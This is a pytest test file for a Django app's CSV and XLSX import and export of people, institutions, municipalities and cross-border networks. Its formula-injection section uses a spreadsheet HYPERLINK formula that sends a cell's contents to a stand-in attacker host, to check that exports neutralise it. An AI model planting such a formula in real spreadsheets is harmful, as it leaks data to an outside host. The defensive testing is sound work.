"""Spreadsheet import and export: natural keys, all-or-nothing files, formula cells."""

import datetime
import io
from decimal import Decimal

import pytest
import tablib
from django.utils.translation import override
from openpyxl import load_workbook

from networks.enums import MembershipRole, NetworkKind, Sector, Sex
from networks.models import Institution, Membership, Municipality, Network, Person
from networks.resources import (
    InstitutionResource,
    MembershipResource,
    MunicipalityResource,
    NetworkResource,
    PersonResource,
)
from tests.factories import (
    DepartmentFactory,
    InstitutionFactory,
    MembershipFactory,
    MunicipalityFactory,
    NetworkFactory,
    PersonFactory,
)

pytestmark = pytest.mark.django_db

PEOPLE_HEADER = "first_name,last_name,sex,email,phone,position,institution\n"


def dataset(text):
    return tablib.Dataset().load(text, format="csv")


def run_import(resource, text):
    """Import as the admin's confirm step does, but in English so messages can be compared."""
    with override("en"):
        return resource.import_data(
            dataset(text),
            dry_run=False,
            raise_errors=False,
            use_transactions=True,
            rollback_on_validation_errors=True,
        )


def run_import_dataset(resource, data):
    with override("en"):
        return resource.import_data(data, dry_run=False, raise_errors=False)


def row_errors(result):
    """{row number: {column: [messages]}} of every invalid row, as the preview lists them."""
    return {row.number: row.error_dict for row in result.invalid_rows}


@pytest.fixture
def citala(countries):
    chalatenango = DepartmentFactory(country=countries["SV"], code="SV-CH", name="Chalatenango")
    return MunicipalityFactory(
        department=chalatenango, name="Citalá", official_code="0404", slug="citala-sv"
    )


# People ----------------------------------------------------------------------------------


def test_people_file_with_bad_rows_writes_nothing_and_reports_each_row(countries):
    InstitutionFactory(name="Alcaldía de Metapán", country=countries["SV"])
    text = PEOPLE_HEADER + (
        "Ana,López,female,ana@example.org,,,Alcaldía de Metapán\n"
        "Luis,Pérez,male,,,,\n"
        "Rosa,Díaz,robot,rosa@example.org,,,Alcaldía de Metapán\n"
        "Juan,Mejía,male,juan@example.org,,,Alcaldía de Esquipulas\n"
    )

    result = run_import(PersonResource(), text)

    assert Person.objects.count() == 0
    assert row_errors(result) == {
        2: {"email": ["An e-mail address is required: it is how an import recognises a person."]},
        3: {
            "sex": [
                "Unknown value “robot”. Allowed values: female (Female), male (Male), "
                "not_stated (Prefers not to say)."
            ]
        },
        4: {
            "institution": [
                "No institution is called “Alcaldía de Esquipulas”. "
                "Import or add the institution first."
            ]
        },
    }


def test_people_file_matches_email_and_institution_whatever_the_case(countries):
    institution = InstitutionFactory(name="Alcaldía de Metapán", country=countries["SV"])
    existing = PersonFactory(first_name="Ana", email="ana@example.org", institution=None)
    text = PEOPLE_HEADER + (
        "Ana María,López,Mujer,ANA@Example.org,+503 7000 0000,Alcaldesa,ALCALDÍA DE METAPÁN\n"
        "Luis,Pérez,Male,luis@example.org,,,\n"
    )

    result = run_import(PersonResource(), text)

    assert not result.has_errors()
    assert not result.has_validation_errors()
    existing.refresh_from_db()
    assert (existing.first_name, existing.sex, existing.institution) == (
        "Ana María",
        Sex.FEMALE,
        institution,
    )
    assert set(Person.objects.values_list("email", "sex")) == {
        ("ana@example.org", Sex.FEMALE),
        ("luis@example.org", Sex.MALE),
    }


def test_people_reimport_of_an_export_skips_unchanged_rows(countries):
    PersonFactory(institution=InstitutionFactory(country=countries["SV"]))
    exported = PersonResource().export().csv

    result = run_import(PersonResource(), exported)

    assert [row.import_type for row in result.rows] == ["skip"]


def test_people_file_without_email_column_is_refused(countries):
    result = run_import(PersonResource(), "first_name,last_name,sex\nAna,López,female\n")

    assert Person.objects.count() == 0
    assert [str(error.error) for error in result.base_errors] == [
        "The following fields are declared in 'import_id_fields' but are not present "
        "in the file headers: email"
    ]


# Memberships ---------------------------------------------------------------------------------

MEMBERSHIP_HEADER = "person,network,institution,role,start_date,end_date\n"


@pytest.fixture
def member_and_network(countries):
    person = PersonFactory(
        email="ana@example.org", institution=InstitutionFactory(name="Alcaldía de Metapán")
    )
    return person, NetworkFactory(slug="red-metapan")


def test_membership_file_with_second_open_seat_writes_nothing(member_and_network):
    person, network = member_and_network
    MembershipFactory(person=person, network=network, start_date=datetime.date(2020, 1, 1))
    other = PersonFactory(email="luis@example.org")
    text = MEMBERSHIP_HEADER + (
        "luis@example.org,red-metapan,,Coordinación,2023-01-01,\n"
        "ANA@example.org,red-metapan,,member,2024-02-01,\n"
    )

    result = run_import(MembershipResource(), text)

    assert not Membership.objects.filter(person=other).exists()
    assert Membership.objects.count() == 1
    assert row_errors(result) == {
        2: {
            "__all__": [
                "This person already has an open membership in this network. "
                "End it before starting another."
            ]
        }
    }


def test_membership_file_with_end_before_start_or_unknown_keys_reports_rows(member_and_network):
    text = MEMBERSHIP_HEADER + (
        "ana@example.org,red-metapan,,member,2024-05-01,2024-04-30\n"
        "nadie@example.org,red-inexistente,,chair,2024-05-01,\n"
        "ana@example.org,red-metapan,,member,31/02/2024,\n"
    )

    result = run_import(MembershipResource(), text)

    assert Membership.objects.count() == 0
    errors = row_errors(result)
    assert errors[1] == {"__all__": ["The end date cannot precede the start date."]}
    assert errors[2]["person"] == [
        "No person has the e-mail address “nadie@example.org”. Import the person first."
    ]
    assert errors[2]["network"] == ["No network has the slug “red-inexistente”."]
    assert errors[2]["role"][0].startswith("Unknown value “chair”. Allowed values: coordinator")
    assert errors[3] == {
        "start_date": ["“31/02/2024” is not a date. Write it as 2024-05-31 or 31/05/2024."]
    }


def test_membership_file_opens_and_ends_seats(member_and_network):
    person, network = member_and_network
    seat = MembershipFactory(person=person, network=network, start_date=datetime.date(2020, 1, 1))
    newcomer = PersonFactory(email="luis@example.org", institution=InstitutionFactory())
    text = MEMBERSHIP_HEADER + (
        "ana@example.org,red-metapan,Alcaldía de Metapán,member,2020-01-01,31/12/2023\n"
        "luis@example.org,red-metapan,,Secretaría técnica,2024-01-15,\n"
    )

    result = run_import(MembershipResource(), text)

    assert [row.import_type for row in result.rows] == ["update", "new"]
    seat.refresh_from_db()
    assert seat.end_date == datetime.date(2023, 12, 31)
    opened = Membership.objects.get(person=newcomer)
    assert (opened.role, opened.institution, opened.start_date) == (
        MembershipRole.TECHNICAL_SECRETARIAT,
        newcomer.institution,
        datetime.date(2024, 1, 15),
    )


# Networks and the cross-border rule ------------------------------------------------------------

NETWORK_HEADER = "name,slug,kind,status,municipalities,programme\n"


def test_cross_border_table_of_one_country_is_refused_and_file_writes_nothing(
    border_municipalities,
):
    text = NETWORK_HEADER + (
        "Red de Esquipulas,red-esquipulas,local_network,,GT:Esquipulas,\n"
        "Mesa Metapán,mesa-metapan,Mesa técnica transfronteriza,active,SV:Metapán,\n"
    )

    result = run_import(NetworkResource(), text)

    assert Network.objects.count() == 0
    assert row_errors(result) == {
        2: {
            "municipalities": [
                "A cross-border technical table must join municipalities of at least two countries."
            ]
        }
    }


def test_cross_border_table_of_two_countries_is_imported(border_municipalities):
    text = NETWORK_HEADER + (
        "Mesa Trifinio,,cross_border_table,Forming,SV:Metapán; hn:ocotepeque ; GT:Esquipulas,\n"
    )

    result = run_import(NetworkResource(), text)

    assert not result.has_validation_errors()
    table = Network.objects.get()
    assert (table.slug, table.kind, table.status) == (
        "mesa-trifinio",
        NetworkKind.CROSS_BORDER_TABLE,
        "forming",
    )
    assert {m.name for m in table.municipalities.all()} == {"Metapán", "Ocotepeque", "Esquipulas"}


def test_network_file_with_unknown_municipality_reports_it(border_municipalities):
    text = NETWORK_HEADER + "Mesa,mesa,cross_border_table,,SV:Metapán; HN:Atlántida,\n"

    result = run_import(NetworkResource(), text)

    assert Network.objects.count() == 0
    assert row_errors(result) == {1: {"municipalities": ["No municipality “Atlántida” in HN."]}}


def test_network_export_lists_municipalities_as_references(border_municipalities):
    NetworkFactory(
        name="Mesa Trifinio",
        slug="mesa-trifinio",
        kind=NetworkKind.CROSS_BORDER_TABLE,
        municipalities=[border_municipalities["SV"], border_municipalities["HN"]],
    )

    exported = NetworkResource().export()

    assert exported.headers == [
        "name",
        "slug",
        "kind",
        "status",
        "municipalities",
        "description",
        "founded_on",
        "programme",
    ]
    assert exported.dict[0]["municipalities"] == "HN:Ocotepeque; SV:Metapán"


# Municipality references ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "reference", ["SV:0404", "SV:Citalá", "sv: citala", "SV:Citalá [0404]", "SV:CITALÁ[0404]"]
)
def test_institution_municipality_accepts_code_name_or_both(citala, reference):
    text = f"name,sector,country,municipality\nAlcaldía,municipal_government,SV,{reference}\n"

    result = run_import(InstitutionResource(), text)

    assert not result.has_validation_errors(), row_errors(result)
    assert Institution.objects.get().municipality == citala


@pytest.mark.parametrize(
    ("reference", "message"),
    [
        ("SV:Metapán", "No municipality “Metapán” in SV."),
        ("GT:0404", "No municipality “0404” in GT."),
        ("SV:Citalá [0405]", "No municipality “Citalá [0405]” in SV."),
        (
            "Citalá",
            "“Citalá” is not a municipality reference. Write the country code, a colon and "
            "the official code or name: SV:0404, SV:Citalá or SV:Citalá [0404].",
        ),
        (
            "SV:San José",
            "“SV:San José” is ambiguous: it matches SV:San José [0420] (Chalatenango); "
            "SV:San José (La Unión). Add the official code in brackets to say which one.",
        ),
    ],
)
def test_institution_municipality_unknown_or_ambiguous_is_row_error(
    citala, countries, reference, message
):
    MunicipalityFactory(
        department=citala.department, name="San José", official_code="0420", slug="sj-ch"
    )
    la_union = DepartmentFactory(country=countries["SV"], code="SV-UN", name="La Unión")
    MunicipalityFactory(department=la_union, name="San José", slug="sj-un")
    text = f"name,sector,country,municipality\nAlcaldía,municipal_government,SV,{reference}\n"

    result = run_import(InstitutionResource(), text)

    assert Institution.objects.count() == 0
    assert row_errors(result) == {1: {"municipality": [message]}}


def test_institution_sector_label_in_spanish_or_english_is_accepted(countries):
    text = (
        "name,sector,country\n"
        "Universidad,academia,sv\n"
        "Pastoral de Movilidad Humana,Faith-based organisation,GT\n"
        "Alcaldía de Ocotepeque,gobierno municipal,HN\n"
    )

    with override("es"):
        spanish = str(Sector.MUNICIPAL_GOVERNMENT.label)
    result = run_import(InstitutionResource(), text.replace("gobierno municipal", spanish))

    assert not result.has_validation_errors(), row_errors(result)
    assert set(Institution.objects.values_list("name", "sector", "country__code")) == {
        ("Universidad", Sector.ACADEMIA, "SV"),
        ("Pastoral de Movilidad Humana", Sector.FAITH_BASED, "GT"),
        ("Alcaldía de Ocotepeque", Sector.MUNICIPAL_GOVERNMENT, "HN"),
    }


def test_municipality_file_creates_districts_of_a_successor(citala, countries):
    text = (
        "department,name,official_code,slug,is_border,borders_with,latitude,longitude,"
        "valid_from,valid_until,successor\n"
        "SV-CH,Chalatenango Norte,,,sí,GT; HN,14.31,-89.21,2024-05-01,,\n"
        "SV-CH,citalá,0404,,yes,HN,14.37,-89.21,,30/04/2024,SV:Chalatenango Norte\n"
    )

    result = run_import(MunicipalityResource(), text)

    assert not result.has_validation_errors(), row_errors(result)
    assert [row.import_type for row in result.rows] == ["new", "update"]
    successor = Municipality.objects.get(name="Chalatenango Norte")
    assert successor.slug == "chalatenango-norte-sv"
    assert {c.code for c in successor.borders_with.all()} == {"GT", "HN"}
    assert successor.longitude == Decimal("-89.21")
    citala.refresh_from_db()
    assert (citala.slug, citala.valid_until, citala.successor) == (
        "citala-sv",
        datetime.date(2024, 4, 30),
        successor,
    )


def test_municipality_export_headers_and_references(citala):
    exported = MunicipalityResource().export()

    assert exported.headers == [
        "country",
        "department",
        "name",
        "official_code",
        "slug",
        "is_border",
        "borders_with",
        "latitude",
        "longitude",
        "valid_from",
        "valid_until",
        "successor",
    ]
    assert exported.dict[0]["department"] == "SV-CH"
    assert exported.dict[0]["country"] == "SV"


def test_stable_export_headers_of_people_institutions_and_memberships():
    assert PersonResource().export().headers == [
        "first_name",
        "last_name",
        "sex",
        "email",
        "phone",
        "position",
        "institution",
        "consent_date",
        "consent_basis",
    ]
    assert InstitutionResource().export().headers == [
        "name",
        "acronym",
        "sector",
        "country",
        "municipality",
        "website",
    ]
    assert MembershipResource().export().headers == [
        "person",
        "network",
        "institution",
        "role",
        "start_date",
        "end_date",
    ]


# Formula injection ------------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")'


@pytest.fixture
def formula_person(countries):
    return PersonFactory(
        first_name="@Ana",
        last_name="-López",
        email="ana@example.org",
        position=HYPERLINK,
        phone="+503 7000 0000",
        consent_date=datetime.date(2024, 1, 5),
        consent_basis="written",
        institution=InstitutionFactory(name="\tAlcaldía", country=countries["SV"]),
    )


def test_formula_cells_are_neutralised_in_csv_export(formula_person):
    row = dataset(PersonResource().export().csv).dict[0]

    assert row["position"] == "'" + HYPERLINK
    assert row["phone"] == "'+503 7000 0000"
    assert row["first_name"] == "'@Ana"
    assert row["last_name"] == "'-López"
    assert row["institution"] == "'\tAlcaldía"
    assert row["email"] == "ana@example.org"
    assert row["consent_date"] == "2024-01-05"


def test_formula_cells_are_neutralised_in_xlsx_export(formula_person):
    export = PersonResource().export(force_native_type=True)
    sheet = load_workbook(io.BytesIO(export.export("xlsx"))).active
    header = [cell.value for cell in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))

    assert cells["position"].value == "'" + HYPERLINK
    assert cells["position"].data_type == "s"
    assert cells["phone"].value == "'+503 7000 0000"
    assert cells["consent_date"].value == datetime.datetime(2024, 1, 5)


def test_numbers_and_dates_are_not_quoted(citala):
    citala.latitude, citala.longitude = Decimal("14.37"), Decimal("-89.21")
    citala.valid_until = datetime.date(2024, 4, 30)
    citala.save()

    with override("en"):
        row = MunicipalityResource().export().dict[0]

    assert row["longitude"] == "-89.21000"
    assert row["valid_until"] == "2024-04-30"


def test_exported_formula_cells_import_back_unchanged(formula_person):
    exported = PersonResource().export().csv
    Person.objects.all().delete()

    result = run_import(PersonResource(), exported)

    assert not result.has_validation_errors(), row_errors(result)
    person = Person.objects.get()
    assert (person.first_name, person.last_name, person.position, person.phone) == (
        "@Ana",
        "-López",
        HYPERLINK,
        "+503 7000 0000",
    )
    assert person.institution.name == "\tAlcaldía"


def test_exported_xlsx_imports_back_as_unchanged_rows(formula_person):
    xlsx = PersonResource().export(force_native_type=True).export("xlsx")

    result = run_import_dataset(PersonResource(), tablib.Dataset().load(xlsx, format="xlsx"))

    assert [row.import_type for row in result.rows] == ["skip"]
